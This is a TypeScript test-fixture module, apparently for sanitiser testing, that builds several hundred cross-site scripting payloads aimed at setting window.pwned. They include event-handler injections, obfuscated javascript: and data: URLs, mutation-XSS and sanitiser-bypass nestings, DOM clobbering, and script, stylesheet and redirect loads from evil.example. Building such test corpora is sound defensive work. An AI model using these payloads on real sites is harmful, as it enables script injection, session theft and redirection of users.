/** What an attack tries to reach: the page's own `pwned`. */
const ACT = 'window.pwned=1';

/** Elements that run a handler by themselves, or by the slightest touch. */
const HANDLERS = [
  ['img', 'src=x onerror'], ['img', 'src=x: onload'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'], ['textarea', 'autofocus onfocus'], ['button', 'autofocus onfocus'], ['video', 'src=x onerror'], ['audio', 'src=x onerror'], ['video', 'onloadstart src=x'],
  ['details', 'open ontoggle'], ['marquee', 'onstart'], ['iframe', 'onload'], ['object', 'data=x onerror'], ['embed', 'src=x onload'], ['form', 'onsubmit'], ['a', 'href=/ onclick'],
  ['p', 'onmouseover'], ['b', 'onpointerenter'], ['div', 'style=animation-name:x onanimationstart'], ['div', 'contenteditable autofocus onblur'], ['style', 'onload'], ['link', 'rel=stylesheet href=x onerror'],
  ['script', 'src=x onerror'], ['math', 'onclick'], ['keygen', 'autofocus onfocus'], ['dialog', 'open onclose'], ['div', 'popover onbeforetoggle'], ['image', 'src=x onerror'], ['bgsound', 'onpropertychange'],
] as const;

const ADDRESSES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', 'vbscript:', 'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=', '//evil.example/', 'https://evil.example/', '/\\evil.example', '\\\\evil.example', '/%0aevil', 'blob:x', 'view-source:javascript:',
];

const ALONE = [
  `<script>${ACT}</script>`, `<ScRiPt>${ACT}</sCrIpT>`, `<script/x>${ACT}</script>`, `<scr<script>ipt>${ACT}</scr</script>ipt>`, `<script src="//evil.example/x.js"></script>`, `<script type=module>${ACT}</script>`,
  `<svg><script>${ACT}</script></svg>`, `<svg><script href="data:,${ACT}"/></svg>`, `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`, `<svg><set onbegin=${ACT} attributeName=x>`,
  `<svg><a xlink:href="javascript:${ACT}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${ACT}>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${ACT}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${ACT}>">`, `<math><mi><style><img src=x onerror=${ACT}></style></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ACT}>`, `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`, `<template><img src=x onerror=${ACT}></template>`,
  `<textarea></textarea><img src=x onerror=${ACT}>`, `<title></title><img src=x onerror=${ACT}>`, `<xmp><img src=x onerror=${ACT}></xmp>`, `<plaintext><img src=x onerror=${ACT}>`, `<!--><img src=x onerror=${ACT}>-->`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`, `<?xml version="1.0"?><img src=x onerror=${ACT}>`, `<a href="/" id=x><a id=x name=y href="cid:x">`, `<img name=getElementById>`, `<form id=document><input name=cookie>`,
  `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=import href="//evil.example/">`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${ACT}"></object>`, `<embed src="javascript:${ACT}">`, `<form action="javascript:${ACT}"><button>x</button></form>`, `<button formaction="javascript:${ACT}">x</button>`, `<isindex action="javascript:${ACT}">`,
  `<style>@import "//evil.example/x.css";</style>`, `<p style="background:url(//evil.example/x)">x</p>`, `<p style="behavior:url(x)">x</p>`, `<table background="//evil.example/x"><td>x</td></table>`,
  `<b/onclick=${ACT}//`, `<b\u00A0onclick=${ACT}>x</b>`, `<img/src/onerror=${ACT}>`, `<img src="x\`\`onerror=${ACT}">`, `<img """><script>${ACT}</script>">`, `<img src=x onerror=&#119;indow.pwned=1>`,
  `&lt;img src=x onerror=${ACT}&gt;`, `<p><p><p><p><img src=x onerror=${ACT}>`, `<a href="/"><img src=x onerror=${ACT}></a>`, `<strong data-x="<img src=x onerror=${ACT}>">x</strong>`, `\u0000<script>${ACT}</script>`, `<\u0000script>${ACT}</script>`,
  `<custom-element onclick=${ACT}>x</custom-element>`, `<p is="x-y" slot=z>x</p>`, `<em id=main class=vh>x</em>`, `<area href="javascript:${ACT}">`, `<video><source onerror=${ACT}></video>`, `<select><template><img src=x onerror=${ACT}></template></select>`,
];

/** Hostile HTML for every place that shows a message of a server (R4). */
export const XSS_PAYLOADS: readonly string[] = [
  ...ALONE, ...HANDLERS.map(([tag, attribute]) => `<${tag} ${attribute}=${ACT}>x</${tag}>`), ...ADDRESSES.map((address) => `<a href="${address}${ACT}">x</a>`),
];

/** The same out of whatever they may stand in, and half decoded already: three hundred and more, for every source of a text (S1). */
export const EVERY_ATTACK: readonly string[] = [
  ...XSS_PAYLOADS, ...XSS_PAYLOADS.map((payload) => `"'></title></textarea></style></script>${payload}`), ...XSS_PAYLOADS.map((payload) => payload.replaceAll('<', '&lt;').replaceAll('"', '&quot;')),
];
